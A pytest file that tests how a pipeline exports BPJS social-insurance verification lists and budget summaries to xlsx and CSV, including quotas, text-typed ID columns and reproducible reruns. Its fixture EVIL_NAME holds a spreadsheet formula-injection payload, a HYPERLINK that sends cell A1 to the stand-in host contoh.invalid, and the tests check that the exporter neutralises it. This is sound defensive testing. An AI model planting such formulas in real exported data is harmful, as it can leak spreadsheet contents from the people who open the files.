"""BPJS exports: names, identity columns as text, formula neutralising, budget, same content."""

import csv
import hashlib
import re
import time
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from pandas.testing import assert_frame_equal

import flows.outputs.bpjs_files as bpjs_files
from flows.outputs.bpjs_files import write_bpjs_exports
from flows.outputs.files import RecordedExport, content_digest, input_digest
from flows.outputs.writing import PackedArguments
from schemas.programs import parse_rules

AS_OF = date(2026, 11, 27)
ROOT = Path(__file__).resolve().parents[2]
DEFAULT_TEXT = (ROOT / "schemas" / "programs.toml").read_text(encoding="utf-8")
JOSPOL_TEXT = (ROOT / "examples" / "jospol4.toml").read_text(encoding="utf-8")
RULES = parse_rules(
    DEFAULT_TEXT.replace("[programs.kesehatan]\n", "[programs.kesehatan]\nquota_per_regency = 2\n")
    + "\n"
    + JOSPOL_TEXT
)
EVIL_NAME = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'


def persons_frame() -> pd.DataFrame:
    n = 5
    return pd.DataFrame(
        {
            "person_id": [1, 2, 3, 4, 5],
            "nik": ["6472015508800001", "6472010101900002", "6472014107850003",
                    "6401010202700004", "6401014303650005"],
            "no_kk": ["6472010101200001", "6472010101200001", "6472010101200002",
                      "6401010101200003", "6401010101200004"],
            "nama": ["Siti Aminah", EVIL_NAME, "Budi", "Rahmat", "@Wati"],
            "tanggal_lahir": pd.to_datetime(["1980-08-15", "1990-01-01", "1985-07-01",
                                             "1970-02-02", "1965-03-03"]),
            "jenis_kelamin": ["P", "L", "P", "L", "P"],
            "regency_code": ["6472", "6472", "6472", "6401", "6401"],
            "alamat": ["Jl. Pahlawan 1", "+62 811 5555", "-", "Jl. Kenanga", None],
            "rt_rw": ["001/002", "003/004", None, "005/001", "-1/2"],
            "desa": ["Sidodadi", "Sidodadi", "Karang Asam", "Tanah Grogot", "Kuaro"],
            "kecamatan": ["Samarinda Ulu", "Samarinda Ulu", "Sungai Kunjang", "Tanah Grogot",
                          "Kuaro"],
            "no_hp": ["+628115551234", "081255512345", None, None, "0812"],
            "fktp": ["Puskesmas Sidomulyo", None, "Puskesmas Karang Asam", None, None],
            "pekerjaan": ["Pedagang", "Nelayan/Perikanan", "Petani/Pekebun", "Sopir", "Wiraswasta"],
        }
    ).assign(desil=[1] * n)  # fmt: skip


def verified_frame() -> pd.DataFrame:
    rows = [
        # program, person, regency, score, rank, within quota
        ("kesehatan", 1, "6472", 80.0, 1, True),
        ("kesehatan", 2, "6472", 70.5, 2, True),
        ("kesehatan", 3, "6472", 60.0, 3, False),
        ("kesehatan", 4, "6401", 55.0, 1, True),
        ("ketenagakerjaan", 2, "6472", 40.0, 1, True),
        ("ketenagakerjaan", 5, "6401", 35.0, 1, True),
        ("jospol4", 1, "6472", 100.0, 1, True),
    ]
    frame = pd.DataFrame(
        rows,
        columns=["program", "person_id", "regency_code", "score", "rank", "within_quota"],
    )
    nik = persons_frame().set_index("person_id")["nik"]
    return frame.assign(nik=frame["person_id"].map(nik), eligible=True)


def publish(
    export_dir: Path, verified=None, as_of=AS_OF, run_id="run-1", commit=True, recorded=None,
    persons=None, changed_lists=None,
):  # fmt: skip
    records, pending = write_bpjs_exports(
        verified_frame() if verified is None else verified,
        persons_frame() if persons is None else persons,
        export_dir,
        as_of,
        run_id,
        RULES,
        recorded=recorded,
        changed_lists=changed_lists,
    )
    if commit:
        for file in pending:
            file.commit()
    return records, pending


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def contents(records: pd.DataFrame) -> list[str]:
    """What each exported file says (an xlsx's creation-time stamp aside)."""
    return [content_digest(Path(path)) for path in records["path"]]


def sheet_rows(path: Path, sheet: str) -> list[list[object]]:
    workbook = openpyxl.load_workbook(path)
    return [[c.value for c in row] for row in workbook[sheet].iter_rows()]


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    export_dir = tmp_path_factory.mktemp("exports")
    records, _ = publish(export_dir)
    return export_dir, records


def test_one_xlsx_and_csv_per_program_and_regency_named_with_program_regency_and_date(exported):
    export_dir, records = exported
    lists = records.loc[records["kind"].eq("bpjs")]
    names = sorted(Path(p).name for p in lists["path"])
    assert names == sorted(
        f"verifikasi_{program}_{code}_{slug}_2026-11-27.{ext}"
        for program, code, slug in [
            ("kesehatan", "6401", "paser"), ("kesehatan", "6472", "samarinda"),
            ("ketenagakerjaan", "6401", "paser"), ("ketenagakerjaan", "6472", "samarinda"),
            ("jospol4", "6472", "samarinda"),
        ]
        for ext in ("xlsx", "csv")
    )  # fmt: skip
    summaries = records.loc[records["kind"].eq("bpjs_summary")]
    assert sorted(Path(p).name for p in summaries["path"]) == sorted(
        f"ringkasan_anggaran_{p}_2026-11-27.{ext}"
        for p in ("kesehatan", "ketenagakerjaan", "jospol4")
        for ext in ("xlsx", "csv")
    )
    for record in records.itertuples():
        assert Path(record.path).parent == export_dir / "bpjs" / record.program
        assert sha256(Path(record.path)) == record.sha256
    # only persons within quota are sent: kesehatan Samarinda has 3 verified, 2 places
    kes_smd = lists.loc[lists["path"].str.contains("kesehatan_6472")]
    assert kes_smd["n_rows"].tolist() == [2, 2] and set(kes_smd["regency_code"]) == {"6472"}
    assert not list(export_dir.rglob(".*.tmp"))


def test_kesehatan_xlsx_identity_columns_as_text_and_frozen_header(exported):
    export_dir, _ = exported
    path = export_dir / "bpjs/kesehatan/verifikasi_kesehatan_6472_samarinda_2026-11-27.xlsx"
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Daftar", "Ringkasan"]
    sheet = workbook["Daftar"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header == [
        "Peringkat", "NIK", "No KK", "Nama", "Tanggal Lahir", "Jenis Kelamin", "Alamat",
        "RT/RW", "Desa/Kelurahan", "Kecamatan", "Kabupaten/Kota", "No HP", "Kelas Rawat",
        "FKTP", "Skor Prioritas",
    ]  # fmt: skip
    first = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert first["NIK"].value == "6472015508800001" and first["NIK"].data_type == "s"
    assert first["No KK"].value == "6472010101200001" and first["No KK"].data_type == "s"
    assert first["RT/RW"].value == "001/002" and first["RT/RW"].data_type == "s"
    assert first["Tanggal Lahir"].value == "15-08-1980"
    assert first["Jenis Kelamin"].value == "Perempuan"
    assert first["Kabupaten/Kota"].value == "Kota Samarinda"
    assert first["Kelas Rawat"].value == "III"
    assert first["FKTP"].value == "Puskesmas Sidomulyo"
    assert first["Peringkat"].value == 1 and first["Skor Prioritas"].value == 80
    second = {h: c.value for h, c in zip(header, sheet[3], strict=True)}
    assert second["FKTP"] is None and second["Skor Prioritas"] == 70.5  # FKTP only if submitted
    assert sheet.max_row == 3  # the person outside the quota is not sent


def test_ketenagakerjaan_and_jospol_layouts(exported):
    export_dir, _ = exported
    tk = sheet_rows(
        export_dir / "bpjs/ketenagakerjaan/verifikasi_ketenagakerjaan_6401_paser_2026-11-27.xlsx",
        "Daftar",
    )
    assert tk[0][-3:] == ["Pekerjaan", "Program", "Skor Prioritas"]
    assert tk[1][-3:] == ["Wiraswasta", "JKK, JKM", 35]
    jospol = sheet_rows(
        export_dir / "bpjs/jospol4/verifikasi_jospol4_6472_samarinda_2026-11-27.xlsx", "Daftar"
    )
    assert jospol[0][-2:] == ["No HP", "Skor Prioritas"]  # identity columns only
    assert jospol[1][1] == "6472015508800001"


def test_budget_summary_per_program_and_regency(exported):
    export_dir, _ = exported
    path = export_dir / "bpjs/kesehatan/verifikasi_kesehatan_6472_samarinda_2026-11-27.xlsx"
    summary = sheet_rows(path, "Ringkasan")
    assert summary[0] == [
        "Program", "Kode Wilayah", "Kabupaten/Kota", "Terverifikasi", "Kuota", "Dalam Kuota",
        "Iuran per Orang per Bulan (Rp)", "Iuran per Bulan (Rp)", "Iuran per Tahun (Rp)",
        "Anggaran per Tahun (Rp)",
    ]  # fmt: skip
    assert summary[1] == ["kesehatan", "6472", "Kota Samarinda", 3, 2, 2, 42000, 84000,
                          1008000, None]  # fmt: skip
    table = csv_rows(export_dir / "bpjs/kesehatan/ringkasan_anggaran_kesehatan_2026-11-27.csv")
    assert [row[1] for row in table[1:]] == ["6401", "6472", "64"]
    assert table[1][3:9] == ["1", "2", "1", "42000", "42000", "504000"]
    assert table[3][2:9] == ["JUMLAH Kalimantan Timur", "4", "4", "3", "42000", "126000",
                             "1512000"]  # fmt: skip
    workbook = openpyxl.load_workbook(
        export_dir / "bpjs/ketenagakerjaan/ringkasan_anggaran_ketenagakerjaan_2026-11-27.xlsx"
    )
    rows = [[c.value for c in r] for r in workbook.active.iter_rows()]
    assert rows[-1][3:9] == [2, None, 2, 16800, 33600, 403200]  # no quota: blank


def test_no_cell_can_act_as_a_formula(exported):
    export_dir, _ = exported
    path = export_dir / "bpjs/kesehatan/verifikasi_kesehatan_6472_samarinda_2026-11-27.xlsx"
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Daftar"]
    header = [c.value for c in sheet[1]]
    evil = {h: c for h, c in zip(header, sheet[3], strict=True)}
    for column, value in [("Nama", EVIL_NAME), ("Alamat", "+62 811 5555")]:
        cell = evil[column]
        assert cell.value == value and cell.data_type == "s" and cell.quotePrefix
    first = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert first["No HP"].value == "+628115551234" and first["No HP"].quotePrefix
    assert not first["Nama"].quotePrefix  # ordinary text keeps the plain style
    for any_xlsx in export_dir.rglob("*.xlsx"):
        for ws in openpyxl.load_workbook(any_xlsx).worksheets:
            assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    table = csv_rows(path.with_suffix(".csv"))
    row = dict(zip(table[0], table[2], strict=True))
    assert row["Nama"] == "'" + EVIL_NAME
    assert row["Alamat"] == "'+62 811 5555"
    assert row["NIK"] == '="6472010101900002"'  # Excel keeps all 16 digits, as text
    other = csv_rows(export_dir / "bpjs/kesehatan/verifikasi_kesehatan_6401_paser_2026-11-27.csv")
    assert dict(zip(other[0], other[1], strict=True))["Alamat"] == "Jl. Kenanga"
    tk = csv_rows(export_dir / "bpjs/ketenagakerjaan/verifikasi_ketenagakerjaan_6401_paser_2026-11-27.csv")  # fmt: skip
    row = dict(zip(tk[0], tk[1], strict=True))
    assert row["Nama"] == "'@Wati" and row["RT/RW"] == "'-1/2"
    for any_csv in export_dir.rglob("*.csv"):
        for line in csv_rows(any_csv):
            assert not any(
                cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not re.fullmatch(r'="[0-9]+"', cell)  # a NIK or KK as text, nothing else
                for cell in line
            )


def test_csv_is_utf8_with_bom_crlf_quoted_text_and_nik_kk_as_excel_text(exported):
    export_dir, _ = exported
    raw = (
        export_dir / "bpjs/kesehatan/verifikasi_kesehatan_6401_paser_2026-11-27.csv"
    ).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the file as UTF-8 (MA\u2019RUF)
    lines = raw[3:].decode("utf-8").split("\r\n")
    assert lines[0].startswith('"Peringkat","NIK","No KK"')
    assert lines[1].startswith('1,"=""6401010202700004""","=""6401010101200003""","Rahmat"')
    assert lines[-1] == ""  # ends with a line break


def test_rerun_rewrites_nothing_and_gives_the_same_sha256(tmp_path):
    first, _ = publish(tmp_path, run_id="run-1")
    stats = {p: (p.stat().st_mtime_ns, p.stat().st_ino) for p in tmp_path.rglob("*.*")}
    second, _ = publish(tmp_path, run_id="run-2")
    assert first["sha256"].tolist() == second["sha256"].tolist()
    assert {p: (p.stat().st_mtime_ns, p.stat().st_ino) for p in tmp_path.rglob("*.*")} == stats
    elsewhere, _ = publish(tmp_path / "other", run_id="run-3")  # a fresh folder: same content
    assert contents(elsewhere) == contents(first)
    csv_records = first["path"].str.endswith(".csv")
    assert (
        elsewhere.loc[csv_records, "sha256"].tolist() == first.loc[csv_records, "sha256"].tolist()
    )


def test_changed_content_is_replaced_and_stale_files_of_the_day_removed(tmp_path):
    publish(tmp_path)
    publish(tmp_path, as_of=date(2026, 11, 26))  # an earlier delivery stays
    fewer = verified_frame().query("not (program == 'kesehatan' and regency_code == '6401')")
    changed = fewer.assign(score=fewer["score"] + 1)
    records, _ = publish(tmp_path, verified=changed)
    folder = tmp_path / "bpjs" / "kesehatan"
    assert not (folder / "verifikasi_kesehatan_6401_paser_2026-11-27.xlsx").exists()
    assert not (folder / "verifikasi_kesehatan_6401_paser_2026-11-27.csv").exists()
    assert (folder / "verifikasi_kesehatan_6401_paser_2026-11-26.xlsx").exists()
    for record in records.itertuples():
        assert sha256(Path(record.path)) == record.sha256


def _recorded(records: pd.DataFrame) -> dict[Path, RecordedExport]:
    return {Path(r.path): RecordedExport(r.sha256, r.input_digest) for r in records.itertuples()}


@pytest.fixture
def files_written(monkeypatch):
    """The final paths of the export files actually written (not left in place unwritten)."""
    written: list[Path] = []
    real = bpjs_files.write_jobs

    def spy(jobs, *args, **kwargs):
        written.extend(job.final for job in jobs)
        return real(jobs, *args, **kwargs)

    monkeypatch.setattr(bpjs_files, "write_jobs", spy)
    return written


def test_files_whose_inputs_did_not_change_are_not_written_again(tmp_path, files_written):
    first, _ = publish(tmp_path, run_id="run-1")
    assert len(files_written) == len(first)
    files_written.clear()
    again, pending = publish(tmp_path, run_id="run-2", recorded=_recorded(first))
    assert files_written == []
    assert all(file.unchanged for file in pending)
    assert again["sha256"].tolist() == first["sha256"].tolist()
    assert again["input_digest"].tolist() == first["input_digest"].tolist()


def test_one_regencys_new_scores_write_that_regencys_list_alone(tmp_path, files_written):
    first, _ = publish(tmp_path, run_id="run-1")
    files_written.clear()
    changed = verified_frame()
    changed.loc[
        changed["regency_code"].eq("6401") & changed["program"].eq("kesehatan"), "score"
    ] += 1
    records, _ = publish(tmp_path, verified=changed, run_id="run-2", recorded=_recorded(first))
    names = sorted(path.name for path in files_written)
    assert names == [  # the budget summaries count persons: unchanged
        "verifikasi_kesehatan_6401_paser_2026-11-27.csv",
        "verifikasi_kesehatan_6401_paser_2026-11-27.xlsx",
    ]
    for record in records.itertuples():
        assert sha256(Path(record.path)) == record.sha256


def test_a_file_changed_or_removed_by_hand_is_written_again(tmp_path, files_written):
    first, _ = publish(tmp_path, run_id="run-1")
    edited, removed = Path(first["path"].iloc[0]), Path(first["path"].iloc[1])
    edited.write_bytes(b"diubah")
    removed.unlink()
    files_written.clear()
    records, _ = publish(tmp_path, run_id="run-2", recorded=_recorded(first))
    assert sorted(files_written) == sorted([edited, removed])
    assert records["sha256"].tolist() == first["sha256"].tolist()
    assert sha256(edited) == first["sha256"].iloc[0]


def test_lists_no_changed_person_is_on_are_kept_without_their_persons(tmp_path, files_written):
    first, _ = publish(tmp_path, run_id="run-1")
    files_written.clear()
    changed = verified_frame()
    paser = changed["regency_code"].eq("6401") & changed["program"].eq("kesehatan")
    changed.loc[paser, "score"] += 1
    # a run that changed some persons has the persons of the lists ranked again, not all
    only = persons_frame().loc[lambda p: p["regency_code"].eq("6401")]
    lists = pd.DataFrame({"program": ["kesehatan"], "regency_code": ["6401"]})
    records, _ = publish(
        tmp_path, verified=changed, run_id="run-2", recorded=_recorded(first), persons=only,
        changed_lists=lists,
    )  # fmt: skip
    assert sorted(path.name for path in files_written) == [
        "verifikasi_kesehatan_6401_paser_2026-11-27.csv",
        "verifikasi_kesehatan_6401_paser_2026-11-27.xlsx",
    ]
    # the records are those of staging every list from every person
    full, _ = publish(tmp_path / "full", verified=changed, run_id="run-2")
    columns = ["program", "regency_code", "kind", "n_rows", "sha256", "input_digest"]
    key = ["program", "regency_code", "kind", "sha256"]
    assert_frame_equal(
        records[columns].sort_values(key, ignore_index=True),
        full[columns].sort_values(key, ignore_index=True),
    )


def test_a_kept_list_removed_by_hand_is_made_again(tmp_path, files_written):
    first, _ = publish(tmp_path, run_id="run-1")
    removed = next(Path(p) for p in first["path"] if "6472" in p and "kesehatan" in p)
    removed.unlink()
    files_written.clear()
    lists = pd.DataFrame({"program": ["kesehatan"], "regency_code": ["6401"]})
    records, _ = publish(tmp_path, run_id="run-2", recorded=_recorded(first), changed_lists=lists)
    assert files_written == [removed]
    assert records["sha256"].tolist() == first["sha256"].tolist()


def test_a_lists_inputs_digest_the_same_cut_from_a_province_or_made_alone():
    values = ["a", None, "bc", "d", None, "eee", "f"] * 3
    texts = pd.Series(pd.array(values, dtype="string[pyarrow]"))
    part = texts.iloc[5:12]  # one regency's rows of the province's: a slice, at an offset
    alone = pd.Series(values[5:12], dtype="string[pyarrow]")
    in_chunks = pd.Series(
        pd.arrays.ArrowExtensionArray(
            pa.chunked_array([pa.array(values[5:8]), pa.array(values[8:12])], type=pa.string())
        )
    )
    assert input_digest(part.to_frame("v")) == input_digest(alone.to_frame("v"))
    assert input_digest(in_chunks.to_frame("v")) == input_digest(alone.to_frame("v"))


def test_discard_leaves_no_files(tmp_path):
    records, pending = publish(tmp_path, commit=False)
    assert len(records) and not any(Path(p).exists() for p in records["path"])
    for file in pending:
        file.discard()
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


@pytest.mark.slow
def test_pipeline_lists_and_exports_jospol_alongside_bpjs(tmp_path, prefect_harness):
    """End to end on generated spreadsheets: three programs decided, listed and exported."""
    import duckdb

    from demo.generator import generate_demo_data
    from flows.pipeline import pipeline

    raw, reference = tmp_path / "raw", tmp_path / "reference"
    generate_demo_data(rows=400, out_dir=raw, seed=3, reference_dir=reference, workers=1)
    rules_file = tmp_path / "rules.toml"
    rules_file.write_text(DEFAULT_TEXT + "\n" + JOSPOL_TEXT, encoding="utf-8")
    kwargs = dict(raw_dir=raw, reference_dir=reference, db=tmp_path / "w.duckdb",
                  export_dir=tmp_path / "exports", as_of=AS_OF, programs_file=rules_file)  # fmt: skip
    pipeline(**kwargs)
    with duckdb.connect(str(tmp_path / "w.duckdb"), read_only=True) as con:
        decisions = con.sql("SELECT * FROM candidate_decisions").df()
        verified = con.sql("SELECT * FROM verified_candidates").df()
        persons = con.sql("SELECT person_id, no_kk, programs_submitted FROM persons").df()
        exports = con.sql("SELECT * FROM exports").df()
    # one decision per person and program submitted for; Jospol 4 decides on everyone
    submitted = persons.set_index("person_id")["programs_submitted"]
    for program in ("kesehatan", "ketenagakerjaan"):
        expected = set(submitted.index[submitted.str.contains(program)])
        assert set(decisions.loc[decisions["program"].eq(program), "person_id"]) == expected
    jospol = decisions.loc[decisions["program"].eq("jospol4")]
    assert set(jospol["person_id"]) == set(persons["person_id"])
    assert not decisions.duplicated(["program", "person_id"]).any()
    assert decisions["score_components"].str.startswith('{"desil": {"value": ').all()
    listed = verified.loc[verified["program"].eq("jospol4")].merge(persons, on="person_id")
    assert len(listed) and not listed["no_kk"].duplicated().any()  # one per household
    assert listed.groupby("regency_code").size().max() <= 150
    assert set(verified["program"]) == {"kesehatan", "ketenagakerjaan", "jospol4"}
    assert (verified.groupby(["program", "regency_code"])["rank"].min() == 1).all()
    for record in exports.loc[exports["kind"].str.startswith("bpjs")].itertuples():
        assert sha256(Path(record.path)) == record.sha256
    assert set(exports.loc[exports["kind"].eq("bpjs"), "program"]) == set(verified["program"])


def test_written_twice_the_same_content_and_read_back_the_same(tmp_path):
    first, _ = publish(tmp_path / "a")
    time.sleep(1.1)  # the creation-time stamp (seconds) differs; nothing else may
    second, _ = publish(tmp_path / "b")
    assert contents(first) == contents(second)
    path = tmp_path / "a/bpjs/kesehatan/verifikasi_kesehatan_6472_samarinda_2026-11-27.xlsx"
    rows = sheet_rows(path, "Daftar")
    assert rows[1][1] == "6472015508800001" and rows[2][3] == EVIL_NAME
    assert openpyxl.load_workbook(path)["Daftar"]["D3"].quotePrefix


def test_written_on_two_processes_the_same_content_and_records(tmp_path, monkeypatch):
    monkeypatch.setattr("flows.outputs.bpjs_files.PARALLEL_MIN_ROWS", 0)  # small exports too
    sequential, in_order = write_bpjs_exports(
        verified_frame(), persons_frame(), tmp_path / "a", AS_OF, "run-1", RULES, workers=1
    )
    parallel, pending = write_bpjs_exports(
        verified_frame(), persons_frame(), tmp_path / "b", AS_OF, "run-1", RULES, workers=2
    )
    assert len(parallel) == len(sequential) > 2
    same = ["run_id", "program", "regency_code", "kind", "n_rows"]
    assert parallel[same].equals(sequential[same])
    for file in [*in_order, *pending]:
        file.commit()
    for record in parallel.itertuples():
        assert sha256(Path(record.path)) == record.sha256
    assert not list((tmp_path / "b").rglob(".*.tmp"))  # every file moved in place
    assert contents(parallel) == contents(sequential)


def test_a_files_arguments_are_held_packed_and_come_back_whole():
    persons = pd.concat([persons_frame()] * 500, ignore_index=True)
    packed = PackedArguments.of((persons, AS_OF))
    assert len(packed.data) < persons.memory_usage(deep=True).sum()
    frame, as_of = packed.unpacked()
    pd.testing.assert_frame_equal(frame, persons)
    assert as_of == AS_OF


def test_bpjs_workbooks_print_landscape_fit_to_width_header_repeated_summary_on_one_page(exported):
    export_dir, _ = exported
    for path in (export_dir / "bpjs").rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path).worksheets:
            setup = sheet.page_setup  # 1 is the default, which the file may leave unwritten
            assert setup.orientation == "landscape" and setup.fitToWidth in (None, 1)
            assert sheet.sheet_properties.pageSetUpPr.fitToPage
            if sheet.title.startswith("Ringkasan"):
                assert setup.fitToHeight in (None, 1)  # one page
            else:
                assert setup.fitToHeight == 0 and sheet.print_title_rows in ("1:1", "$1:$1")


def test_cells_made_block_by_block_give_the_same_files(tmp_path, monkeypatch):
    whole, _ = publish(tmp_path / "whole")
    monkeypatch.setattr("flows.outputs.writing.BLOCK_ROWS", 1)  # one row a block
    blocks, _ = publish(tmp_path / "blocks")
    assert contents(blocks) == contents(whole)


def _staged(export_dir: Path):
    from flows.outputs.bpjs_files import ExportStaging, stage_bpjs_exports

    staging = ExportStaging("run-1")
    stage_bpjs_exports(staging, verified_frame(), persons_frame(), export_dir, AS_OF, RULES)
    return staging


@pytest.mark.parametrize("alongside", [False, True])
def test_bpjs_files_written_before_or_alongside_the_feedback_are_the_same(tmp_path, alongside):
    from flows.pipeline import bpjs_files_written

    expected, _ = _staged(tmp_path / "before").write_all(1, 10**9)
    with bpjs_files_written(_staged(tmp_path / "run"), 10, alongside=alongside) as written:
        records, pending = written()
    columns = ["program", "regency_code", "kind", "n_rows", "sha256", "input_digest"]
    assert records[columns].equals(expected[columns])
    for file in pending:
        file.commit()
    assert all(Path(path).is_file() for path in records["path"])


@pytest.mark.parametrize("alongside", [False, True])
def test_bpjs_files_are_discarded_when_the_feedback_beside_them_fails(tmp_path, alongside):
    from flows.pipeline import bpjs_files_written

    staging = _staged(tmp_path)
    with (
        pytest.raises(RuntimeError, match="umpan balik"),
        bpjs_files_written(staging, 10, alongside=alongside),
    ):
        raise RuntimeError("umpan balik gagal")
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]
